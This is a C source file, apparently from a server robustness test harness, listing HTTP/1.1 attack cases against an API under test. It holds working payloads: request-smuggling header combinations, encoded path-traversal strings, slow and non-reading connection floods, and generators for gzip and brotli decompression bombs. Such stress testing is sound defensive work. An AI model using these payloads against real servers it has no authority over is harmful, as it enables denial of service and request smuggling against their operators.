// SPDX-License-Identifier: Apache-2.0
// Attacks over HTTP/1.1, at the api door. A connection that is thrown out comes back and goes on.
#include "attack.h"

#include <brotli/encode.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

#define HOST "Host: hostile\r\n"
#define POST_ECHO "POST /target/echo HTTP/1.1\r\n" HOST "Content-Type: application/json\r\n"

static void fill(struct peer *p, char c, size_t n) {
    char bytes[4096];
    memset(bytes, c, sizeof bytes);
    for (; n > sizeof bytes; n -= sizeof bytes) put(&p->out, bytes, sizeof bytes);
    put(&p->out, bytes, n);
}

// ---- smuggling

static const char *const DOUBTFUL[] = {
    POST_ECHO "Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    POST_ECHO "Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}",
    POST_ECHO "Content-Length: +2\r\n\r\n{}",
    POST_ECHO "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    POST_ECHO "Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n",
    POST_ECHO "Content-Length : 2\r\n\r\n{}",
    POST_ECHO "Transfer-Encoding: chunked\r\n\r\n0x2\r\n{}\r\n0\r\n\r\n",
    "GET /health HTTP/1.1\nHost: hostile\n\n",
    "GET /health HTTP/1.1\r\n" HOST HOST "\r\n",
};
static void smuggling(struct peer *p) {
    put_text(&p->out, DOUBTFUL[p->turn % (sizeof DOUBTFUL / sizeof DOUBTFUL[0])]);
    put_text(&p->out, "GET /smuggled HTTP/1.1\r\n" HOST "\r\n");
}
static void prefaces(struct peer *p) {
    static const char *const ODD[] = {
        "PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n", "PRI * HTTP/1.1\r\n" HOST "\r\n",
        "PRI / HTTP/2.0\r\n\r\nSM\r\n\r\n", "PRI * HTTP/2.0\n\nSM\n\n"};
    put_text(&p->out, ODD[p->turn % 4]);
}

// ---- heads

static void get_begun(struct peer *p) { put_text(&p->out, "GET /health HTTP/1.1\r\n" HOST); }
static void one_header(struct peer *p) { put_text(&p->out, "X-Filler: a\r\n"); }
static void value_begun(struct peer *p) {
    get_begun(p);
    put_text(&p->out, "X: ");
}
static void target_begun(struct peer *p) { put_text(&p->out, "GET /"); }
static void letters(struct peer *p) { fill(p, 'a', 4096); }
static void empty_lines(struct peer *p) { put_text(&p->out, "\r\n"); }

static void paths(struct peer *p) {
    static const char *const TRICKS[] = {"/%2e%2e/%2e%2e/target/echo",
                                         "/target%2fecho",
                                         "/target%5cecho",
                                         "/target/echo%00",
                                         "/%252e%252e/target",
                                         "/%c0%ae%c0%ae/target",
                                         "/target;/echo",
                                         "/%ff%fe",
                                         "/target/echo?text=%ff",
                                         "/target/echo?text[=1&a[b[c]]=2&.=3"};
    char line[200];
    snprintf(line, sizeof line, "GET %s HTTP/1.1\r\n" HOST "\r\n",
             TRICKS[p->turn % (sizeof TRICKS / sizeof TRICKS[0])]);
    put_text(&p->out, line);
}
static void climbing(struct peer *p) {
    put_text(&p->out, "GET /");
    for (int i = 0; i < 5000; i++) put_text(&p->out, "../");
    put_text(&p->out, " HTTP/1.1\r\n" HOST "\r\n");
}
static void queries(struct peer *p) {
    put_text(&p->out, "GET /target/echo?");
    for (int i = 0; i < 3900; i++) put_text(&p->out, "a=&");
    put_text(&p->out, " HTTP/1.1\r\n" HOST "\r\n");
}

// ---- bodies

static void chunked(struct peer *p) {
    put_text(&p->out, POST_ECHO "Transfer-Encoding: chunked\r\n\r\n");
}
static void extension(struct peer *p) {
    chunked(p);
    put_text(&p->out, "2;a=");
}
static void zeros(struct peer *p) { fill(p, '0', 4096); }
static void tiny_chunk(struct peer *p) { put_text(&p->out, "1\r\n \r\n"); }
static void trailers(struct peer *p) {
    chunked(p);
    put_text(&p->out, "2\r\n{}\r\n0\r\n");
}
static void drip_chunk(struct peer *p) { put_text(&p->out, "1\r\n \r\n"); }
static void cut_off(struct peer *p) { put_text(&p->out, POST_ECHO "Content-Length: 100\r\n\r\n{"); }
static void utf8_body(struct peer *p) {
    put_text(&p->out, POST_ECHO "Content-Length: 14\r\n\r\n{\"text\":\"\xff\xc0\xaf\"}");
}
static void expecting(struct peer *p) {
    put_text(&p->out, POST_ECHO "Expect: 100-continue\r\nContent-Length: 2\r\n\r\n{}");
}
static void refused_bodies(struct peer *p) {
    put_text(&p->out, "POST /nobody HTTP/1.1\r\n" HOST "Content-Length: 60000\r\n\r\n");
    fill(p, ' ', 60000);
}

// ---- answers

static void health(struct peer *p) { put_text(&p->out, "GET /health HTTP/1.1\r\n" HOST "\r\n"); }
static void large(struct peer *p) {
    put_text(&p->out, "GET /target/large HTTP/1.1\r\n" HOST "\r\n");
}
static void large_packed(struct peer *p) {
    put_text(&p->out, "GET /target/large HTTP/1.1\r\n" HOST "Accept-Encoding: gzip\r\n\r\n");
}
static void endless(struct peer *p) {
    put_text(&p->out, "POST /target/endless HTTP/1.1\r\n" HOST "Content-Length: 0\r\n\r\n");
}
static void endless_packed(struct peer *p) {
    put_text(&p->out, "POST /target/endless HTTP/1.1\r\n" HOST
                      "Accept-Encoding: br\r\nContent-Length: 0\r\n\r\n");
}

// ---- bodies that unfold

struct bytes gzip_bomb(size_t unfolded) {
    static unsigned char nothing[65536];
    struct bytes out = {.p = malloc(unfolded / 900 + 1000), .cap = unfolded / 900 + 1000};
    z_stream z = {0};
    if (out.p == NULL || deflateInit2(&z, 9, Z_DEFLATED, 15 + 16, 9, 0) != Z_OK) abort();
    memset(nothing, ' ', sizeof nothing);
    z.next_out = out.p;
    z.avail_out = (unsigned)out.cap;
    for (size_t left = unfolded; left > 0; left -= z.avail_in) {
        z.next_in = nothing;
        z.avail_in = (unsigned)(left < sizeof nothing ? left : sizeof nothing);
        size_t n = z.avail_in;
        if (deflate(&z, left == n ? Z_FINISH : Z_NO_FLUSH) == Z_STREAM_ERROR) abort();
        z.avail_in = (unsigned)n;
    }
    out.n = out.cap - z.avail_out;
    deflateEnd(&z);
    return out;
}

static struct bytes br_bomb(size_t unfolded) {
    char *nothing = malloc(unfolded);
    struct bytes out = {.p = malloc(65536), .cap = 65536};
    if (nothing == NULL || out.p == NULL) abort();
    memset(nothing, ' ', unfolded);
    out.n = out.cap;
    if (!BrotliEncoderCompress(5, 22, BROTLI_MODE_GENERIC, unfolded, (uint8_t *)nothing, &out.n,
                               out.p))
        abort();
    free(nothing);
    return out;
}

static void put_coded(struct peer *p, const char *coding, const struct bytes *body) {
    char line[200];
    snprintf(line, sizeof line, POST_ECHO "Content-Encoding: %s\r\nContent-Length: %zu\r\n\r\n",
             coding, body->n);
    put_text(&p->out, line);
    put(&p->out, body->p, body->n);
}

static void bomb(struct peer *p) {
    static struct bytes made;
    if (made.n == 0) made = gzip_bomb(100 * 1000 * 1000);
    put_coded(p, "gzip", &made);
}
static void bomb_br(struct peer *p) {
    static struct bytes made;
    if (made.n == 0) made = br_bomb(50 * 1000 * 1000);
    put_coded(p, "br", &made);
}
static void bomb_within(struct peer *p) {
    static struct bytes made;
    if (made.n == 0) made = gzip_bomb(4 * 1000 * 1000);
    put_coded(p, "gzip", &made);
}
static void bomb_members(struct peer *p) {
    static struct bytes made;
    if (made.n == 0) {
        struct bytes one = gzip_bomb(0);
        for (int i = 0; i < 3000; i++) put(&made, one.p, one.n);
        free(one.p);
    }
    put_coded(p, "gzip", &made);
}
static void bomb_foreign(struct peer *p) {
    static const struct bytes body = {.p = (unsigned char *)"x", .n = 1};
    put_coded(p, "gzip, gzip", &body);
}

#define HTTP1 .bare = true, .http = "1"

const struct attack ATTACKS_HTTP1[] = {
    {.name = "h1-smuggling",
     .what = "lengths and lines that are doubtful",
     .more = smuggling,
     HTTP1},
    {.name = "h1-prefaces", .what = "what is nearly HTTP/2's preface", .more = prefaces, HTTP1},
    {.name = "h1-headers",
     .what = "header lines without end",
     .begin = get_begun,
     .more = one_header,
     HTTP1},
    {.name = "h1-long-header",
     .what = "a header without end",
     .begin = value_begun,
     .more = letters,
     HTTP1},
    {.name = "h1-long-target",
     .what = "a target without end",
     .begin = target_begun,
     .more = letters,
     HTTP1},
    {.name = "h1-empty-lines", .what = "empty lines before a request", .more = empty_lines, HTTP1},
    {.name = "h1-paths",
     .what = "dots, encoded slashes, NULs, bad UTF-8 in paths",
     .more = paths,
     HTTP1},
    {.name = "h1-climbing", .what = "paths of 5,000 times ..", .more = climbing, HTTP1},
    {.name = "h1-queries", .what = "queries of thousands of pairs", .more = queries, HTTP1},
    {.name = "h1-extension",
     .what = "a chunk's extension without end",
     .begin = extension,
     .more = letters,
     HTTP1},
    {.name = "h1-zeros",
     .what = "a chunk's size without end",
     .begin = chunked,
     .more = zeros,
     HTTP1},
    {.name = "h1-tiny-chunks",
     .what = "chunks of one byte",
     .begin = chunked,
     .more = tiny_chunk,
     HTTP1},
    {.name = "h1-trailers",
     .what = "trailers without end",
     .begin = trailers,
     .more = one_header,
     HTTP1},
    {.name = "h1-slow-chunks",
     .what = "a chunk of one byte a second",
     .begin = chunked,
     .more = drip_chunk,
     .pace_ms = 1000,
     .connections = 100,
     HTTP1},
    {.name = "h1-cut-off",
     .what = "half a body, then the end",
     .begin = cut_off,
     .half_close = true,
     HTTP1},
    {.name = "h1-utf8", .what = "bodies that are not UTF-8", .more = utf8_body, HTTP1},
    {.name = "h1-expecting",
     .what = "asks for 100 Continue and does not wait",
     .more = expecting,
     HTTP1},
    {.name = "h1-refused-bodies", .what = "bodies for nobody", .more = refused_bodies, HTTP1},
    {.name = "h1-pipeline",
     .what = "requests without end, one behind the other",
     .more = health,
     HTTP1},
    {.name = "h1-pipeline-deaf",
     .what = "the same, and reads no answer",
     .more = health,
     .deaf = true,
     HTTP1},
    {.name = "h1-large-deaf",
     .what = "asks for megabytes and reads nothing",
     .more = large,
     .deaf = true,
     HTTP1},
    {.name = "h1-stream-deaf",
     .what = "100 streams without end, and reads nothing",
     .begin = endless,
     .connections = 100,
     .deaf = true,
     HTTP1},
    {.name = "h1-stream-deaf-packed",
     .what = "the same, compressed",
     .begin = endless_packed,
     .connections = 100,
     .deaf = true,
     HTTP1},
    {.name = "h1-packed", .what = "asks for megabytes, compressed", .more = large_packed, HTTP1},
    {.name = "h1-bomb", .what = "100 KB of gzip that unfold to 100 MB", .more = bomb, HTTP1},
    {.name = "h1-bomb-br", .what = "brotli that unfolds to 50 MB", .more = bomb_br, HTTP1},
    {.name = "h1-bomb-within",
     .what = "4 KB of gzip that unfold to 4 MB, just below the limit",
     .more = bomb_within,
     HTTP1},
    {.name = "h1-bomb-members",
     .what = "thousands of empty gzip members",
     .more = bomb_members,
     HTTP1},
    {.name = "h1-foreign", .what = "encodings one in the other", .more = bomb_foreign, HTTP1},
};
const size_t ATTACKS_HTTP1_COUNT = sizeof ATTACKS_HTTP1 / sizeof ATTACKS_HTTP1[0];
